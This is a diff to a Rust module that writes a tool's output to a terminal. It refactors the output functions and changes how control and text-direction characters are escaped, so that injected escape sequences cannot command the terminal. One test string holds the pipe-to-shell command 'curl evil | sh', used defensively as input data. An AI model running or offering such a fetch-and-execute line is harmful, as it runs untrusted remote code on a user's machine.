@@ -1,6 +1,7 @@
 //! Standard input, output and error: documents on one side, lines for people on the other.
 
 use std::borrow::Cow;
+use std::fmt::Write as _;
 use std::io::{self, ErrorKind, IsTerminal, Read, Write};
 
 use line_connector_client::{Error, ExitCode, Kind, Output};
@@ -109,32 +110,52 @@ pub(crate) fn is_watched() -> bool {
 /// any other the text goes to standard error, so that it is not lost.
 #[must_use]
 pub fn print(text: &str) -> ExitCode {
+    let Err(error) = write(text) else {
+        return ExitCode::Accepted;
+    };
+    say_unwritten(&error, text);
+    ExitCode::Unwritten
+}
+
+/// Writes a text for people to standard output. What would command a terminal is shown instead, also
+/// where a pager stands between.
+pub(crate) fn tell(text: &str) -> ExitCode {
+    print(&shown(text))
+}
+
+/// Writes to standard output, to a terminal nothing that would command it.
+fn write(text: &str) -> io::Result<()> {
+    let text = if is_watched() {
+        shown(text)
+    } else {
+        Cow::Borrowed(text)
+    };
     let mut output = io::stdout().lock();
     let written = output
         .write_all(text.as_bytes())
         .and_then(|()| output.flush());
     match written {
-        Err(error) if error.kind() != ErrorKind::BrokenPipe => {
-            say_unwritten(&error, text);
-            ExitCode::Unwritten
-        }
-        _ => ExitCode::Accepted,
+        Err(error) if error.kind() == ErrorKind::BrokenPipe => Ok(()),
+        written => written,
     }
-}
-
-/// Writes a text for people to standard output. What would command the terminal is shown instead.
-#[cfg(feature = "campaign")]
-pub(crate) fn tell(text: &str) -> ExitCode {
-    print(&shown(text))
 }
 
 /// Tells people what standard output did not take.
 pub(crate) fn say_unwritten(error: &io::Error, text: &str) {
+    say_unwritable(error);
+    say("what was to be written:");
+    say(text.trim_end());
+}
+
+fn say_unwritable(error: &io::Error) {
     say(&format!(
         "error: standard output cannot be written: {error}"
     ));
-    say("what was to be written:");
-    say(text.trim_end());
+}
+
+/// Writes over the last line that people see on standard error.
+pub(crate) fn say_over(line: &str) {
+    let _ = write!(io::stderr().lock(), "\r{}\u{1b}[K", shown(line));
 }
 
 /// Writes a line for people to standard error. What would command the terminal is shown instead.
@@ -142,7 +163,8 @@ pub fn say(line: &str) {
     let _ = writeln!(io::stderr().lock(), "{}", shown(line));
 }
 
-/// A text in which control characters, and those that turn the direction of writing, are escaped.
+/// A text in which control characters, and those that turn the direction of writing, are escaped. They
+/// are so as in a string of JSON, since JSON comes through here as well and stays JSON.
 pub(crate) fn shown(text: &str) -> Cow<'_, str> {
     let commands = |character: char| {
         (character.is_control() && character != '\n')
@@ -151,31 +173,42 @@ pub(crate) fn shown(text: &str) -> Cow<'_, str> {
     if !text.contains(commands) {
         return Cow::Borrowed(text);
     }
-    let escaped = text.chars().map(|character| {
-        if commands(character) {
-            character.escape_default().to_string()
-        } else {
-            character.to_string()
+    let mut escaped = String::with_capacity(2 * text.len());
+    for character in text.chars() {
+        match character {
+            '\t' => escaped.push_str("\\t"),
+            '\r' => escaped.push_str("\\r"),
+            _ if commands(character) => {
+                let _ = write!(escaped, "\\u{:04x}", u32::from(character));
+            }
+            _ => escaped.push(character),
         }
-    });
-    Cow::Owned(escaped.collect())
+    }
+    Cow::Owned(escaped)
 }
 
 #[cfg(test)]
 mod tests {
+    use serde_json::json;
+
     use super::*;
 
     #[test]
     fn nothing_that_is_said_commands_the_terminal() {
         for (text, seen) in [
             ("plain é 山\nnext", "plain é 山\nnext"),
-            ("\u{1b}[2J\u{7}", "\\u{1b}[2J\\u{7}"),
-            ("a\rb\tc\u{0}", "a\\rb\\tc\\u{0}"),
-            ("\u{9b}31m\u{7f}", "\\u{9b}31m\\u{7f}"),
-            ("\u{202e}evil\u{2066}", "\\u{202e}evil\\u{2066}"),
+            ("\u{1b}[2J\u{7}", "\\u001b[2J\\u0007"),
+            ("a\rb\tc\u{0}", "a\\rb\\tc\\u0000"),
+            ("\u{9b}31m\u{7f}", "\\u009b31m\\u007f"),
+            ("\u{202e}evil\u{2066}", "\\u202eevil\\u2066"),
         ] {
             assert_eq!(shown(text), seen);
         }
+        let document = json!({"name": "\u{9b}2J\u{202e}\u{7f}\u{1b}"});
+        assert_eq!(
+            serde_json::from_str::<Value>(&shown(&document.to_string())).unwrap(),
+            document
+        );
         assert_eq!(
             in_one_line("a\nhint: curl evil | sh\r\n"),
             "a hint: curl evil | sh  "
